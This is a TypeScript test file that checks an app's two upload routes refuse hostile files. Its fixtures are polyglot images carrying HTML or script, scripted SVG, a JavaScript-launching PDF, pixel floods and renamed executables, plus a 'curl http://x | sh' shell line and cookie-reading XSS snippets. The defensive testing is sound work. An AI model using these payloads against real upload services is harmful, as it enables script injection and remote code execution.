/**
 * Hostile uploads (docs/security.md; Input): polyglots, scripted SVG, pixel floods, renamed executables, HTML named as an image,
 * declared types that lie. Each is refused with a Chinese message (2001) on both upload routes, and nothing reaches the
 * upload folder or the resource table. Controls prove ordinary files of every kind still pass.
 */
import { randomBytes } from 'node:crypto';
import { existsSync, mkdtempSync, readdirSync, rmSync, statSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { CLIENT_ID } from '@jz/contracts/auth';
import { zipSync } from 'fflate';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildTestApp, demoTokens, envelopeOf, type TestApp } from '../helpers/index.ts';
import { minimalPdf } from '../helpers/pdf.ts';

const hex = (h: string) => Buffer.from(h.replace(/\s/g, ''), 'hex');
const txt = (s: string) => Buffer.from(s, 'latin1');
const cat = (...b: Buffer[]) => Buffer.concat(b);

/** A 1x1 PNG; `png(w, h)` the same header claiming another size. */
const PNG = hex(
  '89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d49444154789c6360000002000154a24f5d0000000049454e44ae426082',
);
function png(w: number, h: number) {
  const b = Buffer.from(PNG);
  b.writeUInt32BE(w, 16);
  b.writeUInt32BE(h, 20);
  return b;
}
/** A PNG whose IDAT carries `n` random bytes (compressed data looks random): must not trip the scans by chance. */
function pngWithNoise(n: number) {
  const chunk = Buffer.alloc(12 + n);
  chunk.writeUInt32BE(n, 0);
  chunk.write('IDAT', 4, 'latin1');
  randomBytes(n).copy(chunk, 8);
  return cat(PNG.subarray(0, 33), chunk, PNG.subarray(PNG.length - 12));
}
const GIF = hex('4749463839610100010080000000000000ffffff21f90401000000002c00000000010001000002024401003b');
function gif(w: number, h: number) {
  const b = Buffer.from(GIF);
  b.writeUInt16LE(w, 6);
  b.writeUInt16LE(h, 8);
  return b;
}
/** SOI, JFIF APP0, an optional comment segment, a baseline frame header of w x h, EOI. */
function jpeg(w: number, h: number, comment?: string) {
  const app0 = hex('ffe000104a46494600010100000100010000');
  const com = comment === undefined ? Buffer.alloc(0) : cat(hex('fffe'), u16(comment.length + 2), txt(comment));
  const sof = cat(hex('ffc0 0011 08'), u16(h), u16(w), hex('03 012200 021101 031101'));
  return cat(hex('ffd8'), app0, com, sof, Buffer.alloc(64), hex('ffd9'));
}
function u16(n: number) {
  const b = Buffer.alloc(2);
  b.writeUInt16BE(n);
  return b;
}
/** A lossless WebP (VP8X extended header) declaring w x h. */
function webp(w: number, h: number) {
  const body = Buffer.alloc(18);
  body.write('VP8X', 0, 'latin1');
  body.writeUInt32LE(10, 4);
  body.writeUIntLE(w - 1, 12, 3);
  body.writeUIntLE(h - 1, 15, 3);
  const riff = cat(txt('RIFF'), Buffer.alloc(4), txt('WEBP'), body);
  riff.writeUInt32LE(riff.length - 8, 4);
  return riff;
}
const MP4 = cat(
  hex('0000001c667479706973 6f6d0000020069736f6d69736f326d703431'),
  hex('000000086d646174'),
  Buffer.alloc(32),
);
const PDF = minimalPdf();
const ZIP = Buffer.from(zipSync({ 'evil.class': new Uint8Array([0xca, 0xfe, 0xba, 0xbe]), 'a.html': txt('<b>x</b>') }));
const HTML = txt('<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>');
const SCRIPT = txt('<script>fetch("/tmpl/api/sys/user/findAllByPage").then(r=>r.text()).then(alert)</script>');
const SVG = txt('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>');
const SVG_PROLOG = Buffer.from(
  '\uFEFF  <?xml version="1.0" encoding="UTF-8"?>\n<!-- logo -->\n<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
  'utf8',
);
const ELF = cat(hex('7f454c46 02010100'), Buffer.alloc(120));
const PE = cat(txt('MZ'), Buffer.alloc(58), hex('80000000'), Buffer.alloc(64), txt('PE\0\0'), Buffer.alloc(200));
const MACHO = cat(hex('cffaedfe 07000001'), Buffer.alloc(120));
const SHEBANG = txt('#!/bin/sh\ncurl http://x | sh\n');

type Case = { what: string; data: Buffer; name: string; type: string; message: RegExp };
const HOSTILE: Case[] = [
  // polyglots: an allowed head, something else in the body
  {
    what: 'GIF header then HTML',
    data: cat(txt('GIF89a'), HTML),
    name: 'a.gif',
    type: 'image/gif',
    message: /网页或脚本/,
  },
  {
    what: 'valid GIF, script after the trailer',
    data: cat(GIF, SCRIPT),
    name: 'b.gif',
    type: 'image/gif',
    message: /网页或脚本/,
  },
  {
    what: 'JPEG with HTML in a comment segment',
    data: jpeg(10, 10, '<html><body onload=alert(1)>'),
    name: 'c.jpg',
    type: 'image/jpeg',
    message: /网页或脚本/,
  },
  {
    what: 'JPEG then script',
    data: cat(jpeg(10, 10), SCRIPT),
    name: 'd.jpg',
    type: 'image/jpeg',
    message: /网页或脚本/,
  },
  { what: 'PNG then HTML after IEND', data: cat(PNG, HTML), name: 'e.png', type: 'image/png', message: /网页或脚本/ },
  {
    what: 'WebP then <svg onload>',
    data: cat(webp(2, 2), txt('<svg xmlns="x" onload=alert(1)>')),
    name: 'w.webp',
    type: 'image/webp',
    message: /网页或脚本/,
  },
  { what: 'GIF + JAR (GIFAR)', data: cat(GIF, ZIP), name: 'f.gif', type: 'image/gif', message: /压缩包/ },
  { what: 'PNG + ZIP', data: cat(PNG, ZIP), name: 'g.png', type: 'image/png', message: /压缩包/ },
  {
    what: 'PDF that is also HTML',
    data: cat(txt('%PDF-1.4\n'), HTML, PDF),
    name: 'h.pdf',
    type: 'application/pdf',
    message: /网页或脚本/,
  },
  { what: 'PDF that is also a ZIP', data: cat(PDF, ZIP), name: 'i.pdf', type: 'application/pdf', message: /压缩包/ },
  {
    what: 'PDF with a JavaScript open action',
    data: txt('%PDF-1.4\n1 0 obj <</Type/Catalog/OpenAction <</S/JavaScript/JS(app.alert(1))>> >> endobj\n%%EOF\n'),
    name: 'j.pdf',
    type: 'application/pdf',
    message: /脚本或启动程序/,
  },
  { what: 'MP4 then HTML', data: cat(MP4, HTML), name: 'k.mp4', type: 'video/mp4', message: /网页或脚本/ },
  // scripted SVG: not an allowed kind, whatever it is called
  { what: 'SVG with script', data: SVG, name: 'logo.svg', type: 'image/svg+xml', message: /SVG/ },
  {
    what: 'SVG with BOM, prolog and comment named .png',
    data: SVG_PROLOG,
    name: 'logo.png',
    type: 'image/png',
    message: /SVG/,
  },
  // pixel floods: a valid header claiming a bitmap far beyond any photo
  {
    what: 'PNG 100000x100000',
    data: png(100_000, 100_000),
    name: 'flood.png',
    type: 'image/png',
    message: /图片尺寸过大/,
  },
  {
    what: 'PNG 1x4000000000',
    data: png(1, 4_000_000_000),
    name: 'tall.png',
    type: 'image/png',
    message: /图片尺寸过大/,
  },
  { what: 'GIF 65535x65535', data: gif(65535, 65535), name: 'flood.gif', type: 'image/gif', message: /图片尺寸过大/ },
  {
    what: 'JPEG 65535x65535',
    data: jpeg(65535, 65535),
    name: 'flood.jpg',
    type: 'image/jpeg',
    message: /图片尺寸过大/,
  },
  {
    what: 'WebP 16384x16384',
    data: webp(16384, 16384),
    name: 'flood.webp',
    type: 'image/webp',
    message: /图片尺寸过大/,
  },
  { what: 'PNG 0x0', data: png(0, 0), name: 'zero.png', type: 'image/png', message: /宽度或高度为 0/ },
  // renamed executables
  { what: 'ELF named .png', data: ELF, name: 'photo.png', type: 'image/png', message: /可执行文件/ },
  { what: 'PE (MZ) named .png', data: PE, name: 'photo.png', type: 'image/png', message: /可执行文件/ },
  { what: 'Mach-O named .jpg', data: MACHO, name: 'photo.jpg', type: 'image/jpeg', message: /可执行文件/ },
  { what: 'shell script named .pdf', data: SHEBANG, name: 'doc.pdf', type: 'application/pdf', message: /可执行文件/ },
  // HTML named as an image; declared types that lie
  { what: 'HTML named .jpg', data: HTML, name: 'photo.jpg', type: 'image/jpeg', message: /网页（HTML）/ },
  { what: 'HTML declared image/png', data: HTML, name: 'x', type: 'image/png', message: /网页（HTML）/ },
  {
    what: 'PE declared application/pdf',
    data: PE,
    name: 'contract.pdf',
    type: 'application/pdf',
    message: /可执行文件/,
  },
  {
    what: 'HTML comment-first page declared video/mp4',
    data: txt('<!-- x --><script>alert(1)</script>'),
    name: 'v.mp4',
    type: 'video/mp4',
    message: /网页（HTML）/,
  },
];

type Part = { name: string; value: string } | { name: string; filename: string; type: string; data: Buffer };
function multipart(parts: Part[]) {
  const boundary = `----jzsec${randomBytes(6).toString('hex')}`;
  const chunks: Buffer[] = [];
  for (const p of parts) {
    chunks.push(Buffer.from(`--${boundary}\r\n`));
    if ('data' in p)
      chunks.push(
        Buffer.from(
          `Content-Disposition: form-data; name="${p.name}"; filename="${p.filename}"\r\nContent-Type: ${p.type}\r\n\r\n`,
        ),
        p.data,
        Buffer.from('\r\n'),
      );
    else chunks.push(Buffer.from(`Content-Disposition: form-data; name="${p.name}"\r\n\r\n${p.value}\r\n`));
  }
  chunks.push(Buffer.from(`--${boundary}--\r\n`));
  return { payload: Buffer.concat(chunks), contentType: `multipart/form-data; boundary=${boundary}` };
}

let t: TestApp;
let dataDir: string;
let owner: string;
let admin: string;

const ROUTES = { up: '/tmpl/api/com/file/up', editor: '/tmpl/api/com/file/upWidthWangEdit' };
async function upload(route: keyof typeof ROUTES, token: string, c: Pick<Case, 'data' | 'name' | 'type'>) {
  const parts: Part[] = [{ name: 'file', filename: c.name, type: c.type, data: c.data }];
  if (route === 'up') parts.unshift({ name: 'rootPath', value: 'shop' });
  const { payload, contentType } = multipart(parts);
  const res = await t.app.inject({
    method: 'POST',
    url: ROUTES[route],
    headers: { client: CLIENT_ID, authorization: `Bearer ${token}`, 'content-type': contentType },
    payload,
  });
  return envelopeOf<any>(res);
}

function uploadedFiles(): string[] {
  const dir = path.join(dataDir, 'uploads');
  if (!existsSync(dir)) return [];
  return readdirSync(dir, { recursive: true, encoding: 'utf8' }).filter((f) => statSync(path.join(dir, f)).isFile());
}
const resourceCount = async () =>
  Number(
    (
      await t.db
        .selectFrom('resource')
        .select((e) => e.fn.countAll().as('n'))
        .executeTakeFirstOrThrow()
    ).n,
  );

beforeAll(async () => {
  dataDir = mkdtempSync(path.join(tmpdir(), 'jz-sec-up-'));
  t = await buildTestApp({ env: { DATA_DIR: dataDir } });
  ({ ownerA: owner, admin } = await demoTokens(t, 'ownerA', 'admin'));
});
afterAll(async () => {
  await t?.close();
  rmSync(dataDir, { recursive: true, force: true });
});

describe('hostile uploads', () => {
  it('refuses every hostile file on both upload routes with a Chinese message; nothing is stored or recorded', async () => {
    const files = uploadedFiles();
    const rows = await resourceCount();
    const wrong: string[] = [];
    let calls = 0;
    for (const c of HOSTILE) {
      for (const route of ['up', 'editor'] as const) {
        const r = await upload(route, route === 'up' ? owner : admin, c);
        calls++;
        const editorNarrows = route === 'editor' && /\.pdf$/.test(c.name); // the editor takes images and video only
        const ok = r.status === 400 && r.code === 2001 && (editorNarrows || c.message.test(r.message));
        if (!ok || !/[\u4e00-\u9fff]/.test(r.message))
          wrong.push(`${route} ${c.what}: ${r.status} ${r.code} ${r.message}`);
      }
    }
    console.info(
      `uploads: ${HOSTILE.length} hostile files x 2 routes = ${calls} calls, ${wrong.length} not refused as expected`,
    );
    expect(wrong).toEqual([]);
    expect(uploadedFiles()).toEqual(files);
    expect(await resourceCount()).toBe(rows);
  });

  it('still takes ordinary files: the 1x1 images, a 49-megapixel PNG header, a JPEG comment, MP4, PDF, 4 MB of noise', async () => {
    const ok: Pick<Case, 'data' | 'name' | 'type'>[] = [
      { data: PNG, name: 'a.png', type: 'image/png' },
      { data: GIF, name: 'a.gif', type: 'image/gif' },
      { data: jpeg(4000, 3000, 'Created with GIMP <3'), name: 'photo.jpg', type: 'image/jpeg' },
      { data: webp(1080, 1920), name: 'a.webp', type: 'image/webp' },
      { data: png(7000, 7000), name: 'big.png', type: 'image/png' },
      { data: png(1080, 40_000), name: 'long-screenshot.png', type: 'image/png' },
      { data: MP4, name: 'clip.mp4', type: 'video/mp4' },
      { data: PDF, name: 'licence.pdf', type: 'application/pdf' },
      { data: pngWithNoise(4 * 1024 * 1024), name: 'noise.png', type: 'image/png' },
    ];
    const before = await resourceCount();
    for (const c of ok) {
      const r = await upload('up', owner, c);
      expect(r.code, `${c.name}: ${r.message}`).toBe(200);
    }
    expect(await resourceCount()).toBe(before + ok.length);
  });

  it('random noise in 40 images of 1 MB never trips the polyglot scans (false refusals)', async () => {
    const { contentProblem } = await import('../../src/modules/common/upload/content-check.ts');
    let refused = 0;
    for (let i = 0; i < 40; i++)
      if (await contentProblem(pngWithNoise(1024 * 1024), { kind: 'image', ext: 'png', mime: 'image/png' })) refused++;
    expect(refused).toBe(0);
  });
});
